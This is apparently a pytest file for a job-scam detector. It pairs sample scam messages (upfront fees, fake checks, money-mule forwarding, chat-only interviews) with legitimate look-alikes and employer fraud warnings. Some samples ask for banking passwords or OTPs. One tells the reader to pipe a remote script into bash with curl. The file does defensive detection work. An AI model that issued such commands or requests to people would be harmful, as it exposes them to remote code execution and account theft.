"""Wordings the first rules missed (found by checking hand-written messages in many styles), and the
legitimate texts that share their words. Each sentence here is a variant, not a copy of those messages."""

import pytest

from keepwarm.scams.rules import Context, find_flags


def flag_ids(text, kind="message"):
    return {f.rule.id for f in find_flags(Context(text, kind=kind))}


POSITIVE = {
    "pay_to_work": [
        "The onboarding course for just $39.99 gets you certified this week.",
        "Your background check costs $65 and is done by our partner lab.",
        "Credentialing has a one-time fee of $120, due before your first assignment.",
        "Please order your Brand Ambassador starter kit ($79) today so we can ship your samples.",
        "Kindly purchase the annual TransPro licence ($149/year) from the link below.",
        "The $60 deposit is fully refunded after your first month with us.",
        "To start, you will need the welcome package ($120) with your headset and login.",
        "Positions open now, apply at jobs-portal.example/apply ($35 registration).",
        "Complete the background check through our vendor site: choose the Basic Report ($39.95).",
        "Enrollment is only $199 this week and your placement is guaranteed.",
        "Before we send your contract, pay the documentation fee of USD 350 to our travel agent.",
        "Selected! Pay the verification and medical fee of Rs 1,950 within 24 hours to confirm joining.",
        "You're all set, just pay $40 for your uniform and name badge before Monday.",
        "We just need the background check done first, $60 and you can start Monday.",
        "Send R250 for uniform and ID processing via eWallet before Friday to secure your post.",
    ],
    "fake_check": [
        "The check covers your first week and the printer. Deposit it with your banking app today, then "
        "send the balance to our supplier so they can ship the equipment.",
    ],
    "wire_or_money_app": [
        "Sent $2,450 to the equipment vendor through Zelle yet?",
        "Please pay the $180 processing amount by PayPal friends and family.",
        "Drug screen is $45 via Cash App to our compliance officer, send a screenshot after.",
        "Your first assignment is to evaluate the counter staff at a Western Union branch near you: buy a money "
        "order with the funds we give you and send a transfer to the evaluator named in your brief.",
    ],
    "money_mule": [
        "Customers will pay you directly; deduct 8% as your commission and send the rest to our head office.",
        "Your job is to receive payments from our buyers in the US and then forward them to our office abroad.",
        "Keep your 5% fee and wire the remaining funds the same day.",
        "Client payments will be deposited into your personal checking account, and you will forward the "
        "remainder to our suppliers.",
    ],
    "offer_without_interview": [
        "Congratulations, you've been selected for the Remote Admin Assistant position at our firm!",
        "Good news: your application for the warehouse packer role has been approved. Reply YES to confirm.",
    ],
    "chat_app_interview": [
        "Your first-round interview is a text-based interview with our HR lead.",
        "We will hold the interview by instant message tomorrow at 10 am.",
    ],
    "personal_info_early": [
        "To set up your salary we also need your online banking username and password.",
        "Kindly fill the form below and send it back:\nFull name:\nDate of birth:\nSSN:\nCopy of identity card:\n",
        "To accept, return the signed letter with your direct deposit details and a scan of a valid photo ID.",
        "Before the interview we verify identity: a selfie holding your driver's license, please.",
        "I need a copy of your passport for the client's vendor check.",
        "Please send your CV, SIN and a void cheque to my personal address so I can add you to payroll.",
        "For joining, send a selfie holding your Aadhaar card.",
        "Kindly send the below:\n1) PAN card\n2) bank passbook\n3) the OTP you receive on your registered mobile",
    ],
    "crypto_payment": [
        "Your account is activated with a 100 USDT deposit. It is not a fee, it stays on your balance.",
    ],
    "task_job": [
        "Complete 30 simple \"review tasks\" a day and earn commission on each one.",
        "Just give 5 star rating to hotels on our site, each rating Rs 40, salary same day.",
    ],
    "fake_check": [
        "I'll mail a cheque for your first two weeks plus money for the car seat; buy it at the store near you.",
    ],
    "chat_app_interview": [
        "The interview will be conducted by our HR Manager, Mrs. Karen Wells, via Microsoft Teams chat.",
    ],
    "run_their_software": [
        "Download our partner app here: http://example.test/WorkApp_v2.apk (not available on Play Store).",
        "If the camera fails, open Terminal and run: curl -s https://example.test/fix.sh | bash",
        "Clone the repo, run npm install and npm start on your main machine (not a VM) and send us a recording.",
    ],
    "easy_money": [
        "Earn $1,800 weekly answering emails from home, no experience needed.",
        "Pay is $40/hr and you only need 2-4 hrs per day.",
        "Part-time online job, daily salary 300-900 USD, reply 1 to start.",
        "I made $2,100 last week from my phone, no experience at all!",
        "Only 60-90 minutes per day, earn $250 each day.",
    ],
    "reshipping": [
        "When a parcel is delivered to your apartment, check it and attach the new shipping label we e-mail you.",
    ],
    "mystery_shopper": [
        "Secret shoppers wanted in your city: earn $350 for each store visit.",
        "You have been picked as a mystery shopper; your first assignment pays $400.",
    ],
}

NEGATIVE = {
    "pay_to_work": [
        "Digital camera, 2x optical zoom, free shipping\n• Just $39",  # a shop newsletter's line
        "Get our new photo software. For a limited time, only $19.",
        "Your background check is paid by us; the drug test is at a clinic near you.",
        "Fingerprinting: the processing fees are billed to the district, not to you.",
        "The work permit processing fee is paid by the employer: the employer pays all of it.",
        "Your relocation costs are ours: we book and pay for the movers.",
    ],
    "fake_check": [
        "Your sign-on bonus check arrives with your first paycheck; deposit it like any other.",
    ],
    "wire_or_money_app": [
        "Our finance team sends wire transfers to vendors every Friday.",
    ],
    "money_mule": [
        "Your salary will be deposited into your bank account every other Friday.",
        "Keep your receipts and send them to accounts payable at month end.",
    ],
    "offer_without_interview": [
        "Your application has been approved for the next step: a 30-minute interview with the team.",
        "Your application for the parking permit has been received.",
    ],
    "chat_app_interview": [
        "Your interview is a video call on Microsoft Teams; the link is in the invite.",
        "Please keep the chat window open during the video interview for links.",
    ],
    "personal_info_early": [
        "Never share the one-time code we text you with anyone, including us.",
        "Account number: 4471-2290\nAmount due: $42.10\n",  # a bill: the label has its value
        "Please bring a copy of your passport on your first day for the I-9.",
        "Please do not send your bank account details by e-mail; enter them in Workday after your start date.",
    ],
    "run_their_software": [
        "Install the Authenticator app from the App Store before your first day.",
        "Take-home exercise: a small repo; run npm install in a fresh container and open a pull request.",
    ],
    "crypto_payment": [
        "Blockchain engineer: build USDC settlement for our crypto exchange (Rust).",
    ],
    "easy_money": [
        "Travel nurse contract: $2,300 weekly, 36 hours per week, 13 weeks in Denver.",
        "Contract rate: day rate 450 GBP, on site in Leeds, 6 months.",
    ],
    "reshipping": [
        "Seasonal Package Handler at our Hodgkins hub: load and unload trailers, $21/hr.",
        "Your new laptop will be delivered to your home; use the prepaid return label for the old one.",
    ],
    "mystery_shopper": [
        "We hired a mystery shopping firm last year to review our stores.",
    ],
}

# Employers' own fraud warnings list the very signs: the rules must read them as warnings.
WARNINGS = [
    "Please be aware that Acme will NEVER:\n- Conduct interviews over Telegram or WhatsApp\n- Ask you to pay for "
    "equipment or starter kits\n- Send you a check and ask you to buy equipment from a vendor or send money back\n"
    "- Ask for your bank details or photos of your ID before a formal offer\n",
    "Acme will never ask you to buy equipment, deposit a check, purchase gift cards, pay any fee, or interview "
    "over Telegram, WhatsApp or Signal.",
    "Fraudsters may pose as our recruiters, offer jobs without an interview and ask you to move the chat to "
    "WhatsApp. Report it to security@acme.com.",
]


@pytest.mark.parametrize("rule,text", [(r, t) for r, ts in POSITIVE.items() for t in ts])
def test_rule_fires_on_other_scam_wordings(rule, text):
    assert rule in flag_ids(text), f"{rule} missed: {text}"


@pytest.mark.parametrize("rule,text", [(r, t) for r, ts in NEGATIVE.items() for t in ts])
def test_rule_quiet_on_legitimate_text_sharing_the_words(rule, text):
    assert rule not in flag_ids(text), f"{rule} fired on: {text}"


@pytest.mark.parametrize("text", WARNINGS)
def test_a_warning_about_scams_raises_no_flag(text):
    assert flag_ids(text) == set()


def test_the_scammers_own_reassurance_does_not_cancel_a_flag():
    text = "Work from home, $300 per day for 2 hours a day. Not a scam, 100% legit company."
    assert "easy_money" in flag_ids(text)


def test_do_not_send_is_a_negation_but_a_threat_is_not():
    assert "personal_info_early" not in flag_ids("Never send your bank details by text message to anyone.")
    threat = "If you do not send your bank account details today, the offer goes to the next candidate."
    assert "personal_info_early" in flag_ids(threat)


def test_a_company_sender_whose_replies_go_to_free_mail():
    ctx = Context("Hi, please reply with your resume.", kind="message", from_addr="anna.lee@hubspot.com",
                  reply_to="annalee.talent@gmail.com")
    assert {f.rule.id for f in find_flags(ctx)} == {"reply_to_freemail"}
    relay = Context("You have a new invitation.", kind="message", from_addr="calendar-notification@google.com",
                    reply_to="recruiter@canva.com")
    assert {f.rule.id for f in find_flags(relay)} == {"reply_to_mismatch"}  # a relay, not a free-mail reply
